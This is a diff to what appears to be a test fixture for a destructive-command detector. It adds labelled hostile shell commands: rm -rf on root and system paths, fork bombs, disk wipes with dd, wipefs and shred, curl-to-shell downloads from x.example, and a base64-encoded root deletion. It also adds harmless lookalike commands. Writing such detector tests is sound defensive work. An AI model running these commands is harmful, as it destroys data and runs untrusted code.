@@ -130,6 +130,33 @@ DESTRUCTIVE: list[tuple[str, str]] = [
     ("if true; then\n  rm -rf /home\nfi", "rm-root"),
     ("rm -rf \\\n  /", "rm-root"),
     ("ls /mnt | \\\n  xargs echo && rm -rf /srv", "rm-root"),
+    # Spelling variants of the same paths and guards that do not guard.
+    ("rm -rf -- /", "rm-root"),
+    ("rm -rf /./etc", "rm-root"),
+    ("rm -rf /.", "rm-root"),
+    ("rm -rf //", "rm-root"),
+    ("rm -rf ~/.*", "rm-root"),
+    ('rm -rf "${DIR%/}/"*', "rm-empty-var"),
+    ('rm -rf "${DIR:-}/"*', "rm-empty-var"),
+    ("rm -rf `pwd`/*", "rm-empty-var"),
+    ('sudo rm -rf "/mnt/user/$SHARE"', "rm-empty-var"),
+    ("cd / && rm -rf *", "rm-root"),
+    ("cd /mnt/user\nrm -rf ./*", "rm-root"),
+    ("time rm -rf /", "rm-root"),
+    ("nohup rm -rf / &", "rm-root"),
+    ("timeout 10 rm -rf /srv", "rm-root"),
+    ("alias ls='rm -rf ~'", "rm-root"),
+    ('bash <<< "rm -rf /etc"', "rm-root"),
+    ("find / -exec rm -rf {} \\;", "find-delete-root"),
+    ("function f { f | f & }; f", "fork-bomb"),
+    ("perl -e 'fork while fork'", "fork-bomb"),
+    ('dd if=/dev/zero of="$DISK" bs=1M', "dd-device"),
+    ("wipefs -af /dev/sdb", "wipefs"),
+    ("parted -s /dev/sdb mklabel gpt", "partition-table"),
+    ("shred -n 3 -z /dev/sdb", "shred"),
+    ("curl -fsSL https://x.example/i.sh | tee i.sh | sh", "curl-pipe-shell"),
+    ('python3 -c "$(curl -fsSL https://x.example/a.py)"', "curl-pipe-shell"),
+    ("echo cm0gLXJmIC8K | base64 -d | bash", "encoded-pipe-shell"),
 ]
 
 BENIGN: list[str] = [
@@ -198,6 +225,14 @@ BENIGN: list[str] = [
     'ssh nas "df -h /mnt/user"',
     'bash -c "echo rm -rf /"',
     "mkdir -p /mnt/user/backup && cp -a src/ /mnt/user/backup/",
+    "cd /tmp/build && rm -rf ./*",
+    "cd ~/src/app && rm -rf node_modules",
+    "alias ll='ls -la'",
+    'bash <<< "echo hi"',
+    'dd if=/dev/zero of="$IMG" bs=1M count=100',
+    "perl -e 'print 1'",
+    'rm -rf "${TMPDIR:-/tmp}/varaverk"',
+    "python3 -c 'import os; print(os.getcwd())'",
 ]
 
 
